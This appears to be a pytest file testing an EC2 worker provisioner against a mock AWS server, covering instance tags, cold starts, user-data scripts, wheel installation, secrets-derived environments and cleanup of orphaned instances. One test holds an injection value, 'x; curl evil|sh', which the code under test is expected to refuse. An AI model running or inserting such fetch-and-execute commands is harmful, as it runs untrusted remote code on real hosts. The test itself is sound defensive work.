"""The EC2 backend against moto's server over HTTP, through boto3: tagged instances of the type of their GPU,
booting a worker from user data (whose environment script is run against the same server's Secrets Manager),
counted by their tags, terminated on scale-down."""

from __future__ import annotations

import base64
import dataclasses
import json
import re
import shlex
import subprocess
import sys

import pytest
from packaging.requirements import Requirement

from luminal.provisioner.ec2_user_data import user_data
from luminal.provisioner.ec2_workers import Ec2Workers
from luminal.scheduler.registry import MemoryRegistry, WorkerInfo
from luminal.store.clock import ManualClock
from luminal.store.settings import Settings
from tests.provisioner.gateway_settings import assert_worker_reads_the_gateways_settings, gateway_settings
from tests.provisioner.test_provisioner import SPEC

boto3 = pytest.importorskip("boto3")
pytest.importorskip("moto")

H100 = dataclasses.replace(SPEC, deployment_id=11, gpu_type="h100")
REGION = "us-east-1"
WHEEL_URL = "https://artifacts.example.com/luminal_cloud-0.1.0-py3-none-any.whl?X-Amz-Signature=abc&X-Amz-Expires=3600"


@pytest.fixture(scope="module")
def endpoint(monkeypatch_module):
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    url = f"http://{host}:{port}"
    for name, value in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                        "AWS_DEFAULT_REGION": REGION, "AWS_ENDPOINT_URL": url}.items():  # fmt: skip
        monkeypatch_module.setenv(name, value)
    yield url
    server.stop()


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.fixture
def ec2(endpoint):
    return boto3.client("ec2", region_name=REGION, endpoint_url=endpoint)


@pytest.fixture
def settings(ec2) -> Settings:
    ami = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    return Settings(ec2_ami_id=ami, ec2_worker_secret="luminal/test-worker-env", ec2_worker_wheel_url=WHEEL_URL)


def test_workers_are_tagged_instances_of_their_gpu_type(ec2, settings):
    clock = ManualClock()
    registry = MemoryRegistry(clock)
    backend = Ec2Workers(settings, registry, ec2, clock)
    first, second = backend.start(H100), backend.start(H100)
    assert backend.replicas(11) == 2 and first.alive() and second.alive()
    (reservation,) = ec2.describe_instances(InstanceIds=[first.instance_id])["Reservations"]
    (instance,) = reservation["Instances"]
    assert instance["InstanceType"] == "p5.48xlarge"
    tags = {t["Key"]: t["Value"] for t in instance["Tags"]}
    assert tags["luminal:deployment"] == "11" and tags["luminal:gpu-type"] == "h100"
    assert tags["luminal:worker-id"] == first.worker_id
    script = ec2.describe_instance_attribute(InstanceId=first.instance_id, Attribute="userData")
    script = base64.b64decode(script["UserData"]["Value"]).decode()
    assert f"luminal.scheduler.worker_process 11 {first.worker_id} h100" in script

    assert first.cold_start_seconds() is None
    clock.advance(90)  # the boot and the installation
    info = WorkerInfo(first.worker_id, 11, pid=1, host="ip-10-0-0-1", device="h100", started_at=clock.time())
    registry.register(info)
    assert first.cold_start_seconds() is None  # registered, still loading
    clock.advance(30)
    registry.mark_ready(first.worker_id)
    assert first.cold_start_seconds() == 120  # from the launch request: boot, installation and load

    second.stop()
    second.stop()  # twice: once
    clock.advance(backend.status_ttl_s)
    assert not second.alive() and first.alive()
    assert backend.replicas(11) == 1
    state = ec2.describe_instances(InstanceIds=[second.instance_id])["Reservations"][0]["Instances"][0]["State"]
    assert state["Name"] in ("shutting-down", "terminated")
    first.stop()
    assert backend.replicas(11) == 0


def test_an_instance_terminated_elsewhere_is_a_dead_worker(ec2, settings):
    clock = ManualClock()
    backend = Ec2Workers(settings, MemoryRegistry(), ec2, clock)
    handle = backend.start(dataclasses.replace(H100, deployment_id=12))
    ec2.terminate_instances(InstanceIds=[handle.instance_id])  # a spot reclaim, an operator
    clock.advance(backend.status_ttl_s)
    assert not handle.alive()
    handle.stop()  # already terminated: no error
    assert backend.replicas(12) == 0


def test_gpu_types_without_an_instance_type_are_refused(ec2, settings):
    backend = Ec2Workers(settings.model_copy(update={"ec2_instance_types": {"h100": "p5.48xlarge"}}),
                         MemoryRegistry(), ec2)  # fmt: skip
    with pytest.raises(ValueError, match="no worker can provide a100: the EC2 backend"):
        backend.start(dataclasses.replace(H100, gpu_type="a100"))
    with pytest.raises(ValueError, match="LUMINAL_EC2_AMI_ID"):
        Ec2Workers(Settings(), MemoryRegistry(), ec2)
    with pytest.raises(ValueError, match="LUMINAL_EC2_WORKER_WHEEL_URL"):  # none is published: no default
        Ec2Workers(settings.model_copy(update={"ec2_worker_wheel_url": ""}), MemoryRegistry(), ec2)


@pytest.fixture
def offline_settings() -> Settings:
    """For the user data alone, which reads no AMI from EC2 (moto's image list takes a second to read)."""
    return Settings(ec2_ami_id="ami-12345678", ec2_worker_wheel_url=WHEEL_URL)


def test_user_data_is_valid_bash_without_credentials_and_refuses_odd_commands(offline_settings):
    settings = offline_settings
    script = user_data(settings, 11, "d11-abc", "h100", REGION)
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    assert "TimeoutStopSec=330" in script and "Restart=on-failure" in script
    assert "redis://" not in script and "postgresql" not in script
    odd = settings.model_copy(update={"worker_command": ["python", "-m", "x; curl evil|sh"]})
    with pytest.raises(ValueError, match="plain words"):
        user_data(odd, 11, "d11-abc", "h100", REGION)


@pytest.mark.parametrize(("gpu_type", "extras"), [("h100", {"cuda"}), ("cpu", set())])
def test_user_data_installs_the_operators_wheel_with_cuda_on_a_gpu(offline_settings, gpu_type, extras):
    script = user_data(offline_settings, 11, "d11-abc", gpu_type, REGION)
    (line,) = [line for line in script.splitlines() if " install " in line]
    *command, package = shlex.split(line)  # what bash passes to pip, the URL's & and ? included
    assert command == ["/opt/luminal/bin/pip", "install", "--quiet"]
    requirement = Requirement(package)  # the parser pip itself uses
    assert (requirement.name, requirement.extras, requirement.url) == ("luminal-cloud", extras, WHEEL_URL)


@pytest.mark.parametrize(
    "url", ["luminal-cloud==0.1.0", "s3://bucket/luminal_cloud-0.1.0-py3-none-any.whl", "https://x/luminal.tar.gz",
            "https://x/a b.whl"],
)  # fmt: skip
def test_a_wheel_url_pip_cannot_install_is_refused_by_the_settings(url):
    with pytest.raises(ValueError, match="http\\(s\\) URL of a .whl file"):
        Settings(ec2_worker_wheel_url=url)


def worker_environment(settings: Settings, tmp_path) -> dict[str, str]:
    """The environment file the user data's script writes (run against moto's Secrets Manager), read back as systemd's
    EnvironmentFile reads it: KEY="value" with backslash escapes."""
    script = user_data(settings, 11, "d11-abc", "h100", REGION)
    python = re.search(r"<<'PY'\n(.*?)PY\n", script, re.S).group(1)
    env_file = tmp_path / "worker.env"
    python = python.replace('"/etc/luminal/worker.env"', json.dumps(str(env_file)))
    subprocess.run([sys.executable, "-c", python], check=True, timeout=60)
    env = dict(re.match(r'^([A-Z_0-9]+)="(.*)"$', line).groups() for line in env_file.read_text().splitlines())
    return {k: re.sub(r"\\(.)", r"\1", v) for k, v in env.items()}


def test_the_worker_environment_comes_from_the_secret(endpoint, settings, tmp_path):
    secret = {
        "LUMINAL_DATABASE_URL": 'postgresql+psycopg://u:p"w\\d@db/luminal',
        "LUMINAL_QUEUE_URL": "redis://q:6379/0",
    }
    boto3.client("secretsmanager", region_name=REGION, endpoint_url=endpoint).create_secret(
        Name=settings.ec2_worker_secret, SecretString=json.dumps(secret)
    )
    env = worker_environment(settings, tmp_path)
    assert env["LUMINAL_DATABASE_URL"] == secret["LUMINAL_DATABASE_URL"]
    assert env["LUMINAL_QUEUE_URL"] == secret["LUMINAL_QUEUE_URL"]
    assert json.loads(env["LUMINAL_GPU_PRICES_PER_SECOND"]) == settings.gpu_prices_per_second


def test_instances_run_with_the_gateways_settings(endpoint, settings, tmp_path, monkeypatch):
    """Reclaiming a dead worker's requests as the gateway says among them (not after the default 30 s)."""
    settings = gateway_settings(settings.model_copy(update={"ec2_worker_secret": "luminal/gateway-settings"}))
    secret = {"LUMINAL_QUEUE_URL": "redis://q:6379/0"}  # the operator's secret names only the services
    boto3.client("secretsmanager", region_name=REGION, endpoint_url=endpoint).create_secret(
        Name=settings.ec2_worker_secret, SecretString=json.dumps(secret)
    )
    assert_worker_reads_the_gateways_settings(worker_environment(settings, tmp_path), monkeypatch)


def test_a_crashed_provisioners_instances_are_adopted_not_left_running(ec2, settings):
    spec = dataclasses.replace(H100, deployment_id=13)
    crashed = Ec2Workers(settings, MemoryRegistry(), ec2, ManualClock())
    left = [crashed.start(spec), crashed.start(spec)]  # then its gateway is killed: nothing is stopped
    successor = Ec2Workers(settings, MemoryRegistry(), ec2, ManualClock())
    changed = successor.start(dataclasses.replace(spec, program_key="patched"))  # serves otherwise: a new one
    assert changed.instance_id not in {h.instance_id for h in left}
    changed.stop()
    adopted = [successor.start(spec), successor.start(spec)]
    assert {h.instance_id for h in adopted} == {h.instance_id for h in left}
    assert {h.worker_id for h in adopted} == {h.worker_id for h in left}
    launched = successor.start(spec)
    assert launched.instance_id not in {h.instance_id for h in left}
    assert successor.replicas(13) == 3
    for handle in [*adopted, launched]:
        handle.stop()
    assert successor.replicas(13) == 0


def test_instances_of_deployments_no_longer_served_are_terminated(ec2, settings):
    crashed = Ec2Workers(settings, MemoryRegistry(), ec2, ManualClock())
    deleted, served = crashed.start(dataclasses.replace(H100, deployment_id=14)), crashed.start(H100)
    successor = Ec2Workers(settings, MemoryRegistry(), ec2, ManualClock())
    mine = successor.start(dataclasses.replace(H100, deployment_id=15))
    successor.prune({11})  # 14 was deleted; 15 is no longer served but is held: its handle stops it
    assert successor.replicas(14) == 0 and successor.replicas(11) == 1 and successor.replicas(15) == 1
    for handle in (served, mine):
        handle.stop()
    assert deleted.instance_id not in successor.instances()
